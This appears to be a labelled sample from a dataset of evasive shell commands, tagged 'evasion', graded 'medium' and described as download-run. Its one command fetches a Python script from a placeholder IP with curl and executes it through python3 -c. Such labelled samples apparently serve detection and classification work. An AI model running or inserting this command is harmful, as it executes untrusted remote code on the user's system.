# evasion: python3 -c of downloaded code
# grade: medium; does: download-run
python3 -c "$(curl -fsSL http://203.0.113.5/p.py)"
